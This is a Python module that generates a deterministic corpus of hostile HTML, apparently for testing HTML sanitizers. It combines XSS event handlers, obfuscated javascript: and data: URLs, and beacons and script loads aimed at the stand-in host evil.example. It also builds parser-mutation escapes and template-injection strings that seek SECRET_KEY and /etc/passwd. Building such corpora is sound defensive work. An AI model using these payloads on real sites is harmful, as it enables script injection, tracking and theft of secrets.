"""Our own list of hostile markup, made by combination: whatever runs, leaks, or takes a page apart."""

import base64
import html
import itertools
import random
from collections.abc import Iterator

JS = "window.__pwned=1;console.log(/PWNED/.source);alert(1)"
HOST = "evil.example"
SHARE = {"handlers": 120, "links": 90, "beacons": 130, "mutations": 100, "texts": 60}

BEARERS = [
    "img src=x",
    "img src",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "marquee",
    "iframe",
    "object data=x",
    "math",
    "button autofocus",
    "select autofocus",
    "textarea autofocus",
    "a href=# tabindex=1 autofocus",
    "div contenteditable autofocus",
    "table",
    "style",
    "link rel=stylesheet href=x",
    "embed src=x",
    "x-own tabindex=1 autofocus",
    "p style=color:red",
    "dialog open",
    "form",
    "image src=x",
    "input type=image src=x",
    "frameset",
    "video><source src=x",
    "picture><img src=x",
    "svg><animate attributeName=x",
]
EVENTS = [
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onbegin",
    "onanimationstart",
    "onpageshow",
    "onpointerenter",
    "onclick",
    "onstart",
    "onfocusin",
    "onbeforetoggle",
    "onloadstart",
    "ontransitionrun",
    "onscroll",
    "onwheel",
    "onresize",
    "onhashchange",
    "onmessage",
]
SPELLINGS = (
    "<{t} {e}={j}>",
    "<{t} {e}='{j}'>",
    '<{t} {e}="{j}">x</{t}>',
    "<{t}/{e}={j}>",
    "<{t}\n{e}\n=\n{j}>",
    "<{t}\t{e}={h}>",
    "<{T} {E}={j}>",
    "<{t}\x0c{e}={j}//",
    "<{t} x='>' {e}={j}>",
    "<<{t} {e}={j}>",
    "<{t} {e}={j} {e}=1",
    "<\x00{t} {e}={j}>",
    "<{t} a=`x` {e}=`{j}`>",
    "<{t} {e}\x00={j}>",
    "</{t}><{t} {e}={j}></p>",
    "<{t} ''{e}={j}>",
)
PLACES = [
    "<a href={q}>x</a>",
    "<a href={q} target=_self>x</a>",
    "<iframe src={q}></iframe>",
    "<form action={q}><button>x</button></form>",
    "<button formaction={q}>x</button>",
    "<object data={q}></object>",
    "<embed src={q}>",
    "<svg><a xlink:href={q}><text y=9>x</text></a></svg>",
    "<svg><use href={q}></use></svg>",
    "<math href={q}>x</math>",
    "<base href={q}><a href=/>x</a>",
    "<meta http-equiv=refresh content={r}>",
    "<map name=m><area href={q} shape=default></map><img usemap=#m src=x>",
    "<img src={q}>",
    "<script src={q}></script>",
    "<link rel=import href={q}>",
    "<frame src={q}>",
    "<blockquote cite={q}>x</blockquote>",
    "<svg><set attributeName=href to={q}></set></svg>",
    "<a ping={q} href={q}>x</a>",
    "<td background={q}>",
    "<portal src={q}></portal>",
]
BEACONS = [
    "<img src=§>",
    "<img srcset='§ 1x'>",
    "<picture><source srcset=§><img></picture>",
    "<img src=x lowsrc=§ dynsrc=§>",
    "<table background=§><tr><td background=§>x</table>",
    "<body background=§>",
    "<video poster=§ src=§ autoplay></video>",
    "<audio src=§ autoplay></audio>",
    "<video><track default src=§></video>",
    "<embed src=§>",
    "<object data=§></object>",
    "<iframe src=§></iframe>",
    "<frameset><frame src=§></frameset>",
    "<link rel=stylesheet href=§>",
    "<link rel=prefetch href=§>",
    "<link rel=preload as=image href=§>",
    "<link rel=dns-prefetch href=§>",
    "<link rel=preconnect href=§>",
    "<link rel=icon href=§>",
    "<link rel=prerender href=§>",
    "<link rel=modulepreload href=§>",
    "<link rel=manifest href=§>",
    "<input type=image src=§>",
    "<svg><image href=§ width=9 height=9></image></svg>",
    "<svg><image xlink:href=§></image></svg>",
    "<svg><use href='§#x'></use></svg>",
    "<svg><filter id=f><feImage href=§></feImage></filter><rect width=9 height=9 filter='url(#f)'></rect></svg>",
    "<style>@import '§';</style>",
    "<style>*{background:url(§)}</style>",
    "<style>@font-face{font-family:f;src:url(§)}*{font-family:f}</style>",
    "<p style='background:url(§)'>x</p>",
    "<p style='background-image:image-set(\"§\" 1x)'>x</p>",
    "<li style='list-style-image:url(§)'>x</li>",
    "<p style='border-image:url(§) 9'>x</p>",
    "<p style='cursor:url(§),auto'>x</p>",
    "<p style='background:u\\72l(§)'>x</p>",
    "<p style='color:red;/**/background:/**/url(§)'>x</p>",
    "<p style='content:url(§)'>x</p>",
    "<p style='mask:url(§#m);-webkit-mask-image:url(§)'>x</p>",
    "<p style='--a:url(§);background:var(--a)'>x</p>",
    "<p style='shape-outside:url(§)'>x</p>",
    "<p style='background-color:red;background:URL(\"§\")'>x</p>",
    "<base href=§><img src=a.png>",
    "<meta http-equiv=refresh content='0;url=§'>",
    "<form action=§ id=f><input autofocus></form>",
    "<script src=§></script>",
    "<iframe srcdoc='<img src=§>'></iframe>",
    "<applet archive=§ code=x></applet>",
    "<bgsound src=§>",
    "<div hx-get=§ hx-trigger=load data-hx-get=§ data-hx-trigger=load>x</div>",
    "<image src=§>",
    "<img src='cid:§'>",
    "<a href=§ autofocus download>x</a>",
    "<font face='url(§)' color=§>x</font>",
    "<table bgcolor='url(§)'><tr><td>x</table>",
]
ADDRESSES = (
    "http://{h}/p{n}",
    "https://{h}/p{n}",
    "//{h}/p{n}",
    "HTTP://{h}/p{n}",
    "http:\\\\{h}/p{n}",
    "/\\{h}/p{n}",
    "&#104;ttp://{h}/p{n}",
    "http&colon;//{h}/p{n}",
    "h&#9;ttp://{h}/p{n}",
    "&#1;http://{h}/p{n}",
    "http:/{h}/p{n}",
)
HOLDERS = [
    "noscript",
    "noembed",
    "noframes",
    "style",
    "xmp",
    "title",
    "textarea",
    "template",
    "iframe",
    "select",
    "plaintext",
    "script",
    "option",
    "object",
    "math",
    "svg",
    "svg><style",
    "svg><title",
    "svg><desc",
    "svg><foreignObject",
    "math><mtext><table><mglyph><style",
    "math><annotation-xml",
    "math><mi",
    "form><math><mtext></form><form><mglyph><style",
    "table><caption",
    "select><option><style",
    "svg><p><style",
]
ESCAPES = (
    "<{o}><p title='</{c}>{x}'>",
    "<{o}><!--</{c}>{x}-->",
    "<{o}></{c}>{x}",
    "<{o}><a id='</{c}>{x}'>",
    "<{o}>{x}</{c}>",
    "<{o}><![CDATA[</{c}>{x}]]>",
    "<!--><{o}>{x}",
    "<!-- --!><{o}>{x}<!--",
    "<?x ><{o}>{x}",
    "<{o}><img title='--&gt;{s}'>",
    "<{o} x='{x}'>",
    "<!doctype [<{o}>]>{x}",
    "<{o}><{o}><{o}></{c}>{x}",
)
CORES = (
    f"<img src=x onerror={JS}>",
    f"<script>{JS}</script>",
    f"<svg onload={JS}></svg>",
    f"<iframe src=javascript:{JS}></iframe>",
    f"<iframe srcdoc=&lt;script&gt;{JS}&lt;/script&gt;></iframe>",
    f"<img src=http://{HOST}/m>",
)
WORDS = [
    "{{7*7}} {{% load static %}} {{{{ settings.SECRET_KEY }}}}",
    "${{{j}}} #{{{j}}} <%= {j} %>",
    "</title><script>{j}</script>",
    "</script><script>{j}</script>",
    '"><img src=x onerror={j}>',
    "'><svg onload={j}>",
    "</textarea><script>{j}</script>",
    "-->]]><script>{j}</script>",
    "</bdi></a></li><img src=//{h}/t onerror={j}>",
    "javascript:{j}",
    '" autofocus onfocus={j} x="',
    "' style='background:url(//{h}/t)' x='",
    '" hx-get=//{h}/t hx-trigger=load x="',
    "&lt;script&gt;{j}&lt;/script&gt;",
    "\\u003cscript\\u003e{j}\\u003c/script\\u003e",
    "+ADw-script+AD4-{j}+ADw-/script+AD4-",
    "%3Cscript%3E{j}%3C/script%3E",
    "<form id=csrf><input name=body><a id=htmx name=config></form>",
    "{{% include '/etc/passwd' %}}{{{{ request.user.password }}}}",
    "＜script＞{j}＜/script＞",
    "<scr\u200bipt>{j}</scr\u200bipt>",
    "<img src=x one\xadrror={j}>",
]
TRICKS = (
    "{x}",
    "\u202e{x}\u202c",
    "\u2067{x}",
    "\u200f\u200b{x}\u200d\ufeff",
    "a\u0301\u0489{x}",
    "\u2066\u202d{x}\u2028x",
)


def _quoted(url: str) -> str:
    return '"' + url.replace('"', "&quot;") + '"'


def handlers() -> Iterator[str]:
    """Every tag with every event in every spelling."""
    for tag, event, spelling in itertools.product(BEARERS, EVENTS, SPELLINGS):
        coded = "".join(f"&#{ord(letter)};" for letter in JS)
        yield spelling.format(t=tag, T=tag.upper(), e=event, E=event.title(), j=JS, h=coded)


def schemes() -> list[str]:
    """Addresses that are code."""
    page = f"<script>{JS}</script>"
    packed = base64.b64encode(page.encode()).decode()
    return [
        f"javascript:{JS}",
        f"JaVaScRiPt:{JS}",
        f" javascript:{JS}",
        f"java&#9;script:{JS}",
        f"java\nscript:{JS}",
        f"&#106;avascript:{JS}",
        f"javascript&colon;{JS}",
        f"&#1;javascript:{JS}",
        f"javascript://%0a{JS}",
        f"vbscript:{JS}",
        f"data:text/html,{page}",
        f"data:text/html;base64,{packed}",
        f"data:image/svg+xml;base64,{packed}",
        f"data:text/xml,{page}",
        f"java\x00script:{JS}",
        f"view-source:javascript:{JS}",
        f"https://{HOST}/x",
    ]


def links() -> Iterator[str]:
    """Every place of an address with every scheme that runs something."""
    for place, url in itertools.product(PLACES, schemes()):
        yield place.format(q=_quoted(url), r=_quoted(f"0;url={url}"))


def beacons() -> Iterator[str]:
    """Every way to ask for something elsewhere, with the address in every spelling."""
    for number, (place, address) in enumerate(itertools.product(BEACONS, ADDRESSES)):
        yield place.replace("§", address.format(h=HOST, n=number))


def mutations() -> Iterator[str]:
    """Markup that changes its meaning when it is parsed a second time."""
    for holder, escape, core in itertools.product(HOLDERS, ESCAPES, CORES):
        last = holder.rpartition("<")[2]
        yield escape.format(o=holder, c=last, x=core, s=html.escape(core))


def texts() -> Iterator[str]:
    """What breaks out of templates, attributes and lines of text."""
    for words, trick in itertools.product(WORDS, TRICKS):
        yield trick.format(x=words.format(j=JS, h=HOST))


def payloads(count: int = 500) -> list[str]:
    """The same ones at every run, drawn from all families in the proportions of SHARE as far as they reach."""
    families = {"handlers": handlers, "links": links, "beacons": beacons, "mutations": mutations, "texts": texts}
    found = {name: sorted(set(families[name]())) for name in SHARE}
    wanted = {name: min(len(found[name]), share * count // 500) for name, share in SHARE.items()}
    wanted["handlers"] += count - sum(wanted.values())
    drawn = random.Random(3)
    return [each for name in SHARE for each in drawn.sample(found[name], wanted[name])]
